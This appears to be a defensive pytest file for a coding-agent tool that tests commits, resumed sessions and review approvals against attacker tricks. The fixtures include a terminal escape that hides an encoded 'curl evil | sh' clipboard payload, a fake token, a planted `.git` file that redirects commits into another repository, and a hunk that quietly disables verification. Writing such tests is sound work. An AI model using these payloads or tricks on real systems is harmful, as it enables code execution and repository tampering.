"""Attacker's pass over continued sessions and commits (core): a workspace that is a folder
of a bigger repository, a file past the commit's read cap, a planted `.git` file, a diff cut
for size in the log, and a model's answer that becomes a commit message."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest

from sage_tui.core.agent.patchgate import MAX_LOGGED_DIFF, PatchGate
from sage_tui.core.agent.resume import History
from sage_tui.core.log.recorder import Recorder
from sage_tui.core.patch.model import parse_patch
from sage_tui.core.patch.review import recorded_review
from sage_tui.core.workspace import commits
from sage_tui.core.workspace.commits import CommitError, commit_files, with_trailer
from sage_tui.core.workspace.workspace import Workspace
from tests.conftest import git_repo


def git(root: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(root), *args], capture_output=True, text=True,
                          check=True).stdout


# -- commits -------------------------------------------------------------------------------

def test_a_workspace_that_is_a_folder_of_the_repository_commits_its_own_files(
        tmp_path: Path) -> None:
    """`sage` opened in repo/docs: SAGE changed docs/README.md; the commit must not replace
    the repository's top-level README.md with it."""
    repo = git_repo(tmp_path / "repo", {"README.md": "the project\n", "old.md": "kept\n",
                                        "docs/README.md": "the docs\n", "docs/old.md": "x\n"})
    docs = repo / "docs"
    (docs / "README.md").write_text("the docs, improved\n")
    (docs / "old.md").unlink()
    commit_files(Workspace([docs]), ["README.md", "old.md"], with_trailer("Docs", "s-1", "m:7b"))
    assert git(repo, "show", "HEAD:README.md") == "the project\n"  # untouched
    assert git(repo, "show", "HEAD:docs/README.md") == "the docs, improved\n"
    assert git(repo, "ls-tree", "-r", "--name-only", "HEAD").split() == [
        "README.md", "docs/README.md", "old.md"]
    assert git(repo, "status", "--short").strip() == ""


def test_a_file_past_the_read_cap_is_refused_not_committed_cut(tmp_path: Path) -> None:
    repo = git_repo(tmp_path / "repo", {"data.csv": "a,b\n"})
    big = b"row,1\n" * (commits.MAX_FILE // 6 + 2)  # a patch appended to a large data file
    (repo / "data.csv").write_bytes(big)
    head = git(repo, "rev-parse", "HEAD")
    with pytest.raises(CommitError):
        commit_files(Workspace([repo]), ["data.csv"], "Append a row")
    assert git(repo, "rev-parse", "HEAD") == head  # not a commit of the first 64 MiB


def test_a_planted_git_file_does_not_send_the_commit_into_another_repository(
        tmp_path: Path) -> None:
    """An unpacked folder next to the person's own checkout, with `.git` a file naming it."""
    victim = git_repo(tmp_path / "victim", {"app.py": "print('mine')\n"})
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    (hostile / ".git").write_text("gitdir: ../victim/.git\n")
    (hostile / "app.py").write_text("print('theirs')\n")
    head = git(victim, "rev-parse", "HEAD")
    with pytest.raises(CommitError):
        commit_files(Workspace([hostile]), ["app.py"], "Fix app")
    assert git(victim, "rev-parse", "HEAD") == head
    assert git(victim, "show", "HEAD:app.py") == "print('mine')\n"


# -- a waiting patch restored from the log -------------------------------------------------

def _huge_patch() -> Any:
    """Two files: a large new data file, then a one-line change whose last line the log's
    size cut lands in (at a space, so the cut diff still parses into two hunks)."""
    def build(filler: int) -> str:
        rows = "".join(f"+row {i}\n" for i in range(15_000)) + "+" + "x" * filler + "\n"
        return (f"--- /dev/null\n+++ b/data.txt\n@@ -0,0 +1,15001 @@\n{rows}"
                "--- a/cfg.py\n+++ b/cfg.py\n@@ -1 +1 @@\n-verify = True\n"
                "+verify = True if False else False\n")
    text = parse_patch(build(0)).text()
    at = text.index("+verify = True if") + len("+verify = True ")
    return parse_patch(build(MAX_LOGGED_DIFF - at), patch_id="p-1")


def test_a_diff_cut_for_size_does_not_come_back_with_the_approval_of_the_whole() -> None:
    patch = _huge_patch()
    records: list[dict[str, Any]] = []
    recorder = Recorder("s", None, writer=records.append)
    gate = PatchGate(None, None, recorder.sink)  # type: ignore[arg-type]  # propose only
    gate.propose(patch)
    decided = patch.hunks[-1]  # the person approved `verify = True if False else False`
    recorder.emit("HUNK_DECISION", {"patch_id": "p-1", "hunk_id": decided.hunk_id,
                                    "hunk_sha": decided.sha, "decision": "approve",
                                    "comment": None, "path": decided.path})
    recorder.emit("CHECKPOINT_RESOLVED", {"checkpoint": "patch", "decision": "defer",
                                          "by": "person", "patch_id": "p-1"})
    history = History.read(records)
    for pending in history.waiting.values():  # what `restore` puts in the queue
        review = recorded_review(pending.diff, pending.patch_id, pending.decided)
        for hunk_id in review.approved:
            assert review.patch.hunk(hunk_id).sha == patch.hunk(hunk_id).sha, \
                f"{hunk_id} comes back approved but reads {review.patch.hunk(hunk_id).lines}"


# -- a commit message from the model's answer ----------------------------------------------

def test_the_commit_message_sage_writes_itself_has_no_escapes_and_no_secrets(
        tmp_path: Path) -> None:
    """The `auto` commit setting commits with `suggested_commit()` and no person in between:
    the reviewer model's summary goes into git history as it is."""
    from sage_tui.core.llm.scripted import Scenario, ScriptedBackend
    from sage_tui.factory import build_session
    from tests.ui.test_workbench_pilot import QA

    repo = git_repo(tmp_path / "repo", {"a.py": "x = 1\n"})
    backend = ScriptedBackend(Scenario.load(QA), host="scripted")
    session = build_session(repo, backend_for=lambda host: backend, remember=False)
    try:
        orchestrator = session.orchestrator
        orchestrator.transcript = [
            {"role": "user", "content": "tidy a.py"},
            {"role": "assistant", "content": "Done.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J "
             "The key was ghp_0123456789abcdefghijABCDEFGHIJ012345 and is now read from env."}]
        (repo / "a.py").write_text("x = 2\n")
        assert orchestrator.code is not None
        orchestrator.code.gate.landed["p-1"] = ["a.py"]
        import asyncio
        asyncio.run(orchestrator.commit(by="auto setting"))
    finally:
        session.close_log()
    message = git(repo, "log", "-1", "--format=%B")
    assert "\x1b" not in message and "\x07" not in message
    assert "ghp_0123456789abcdefghij" not in message
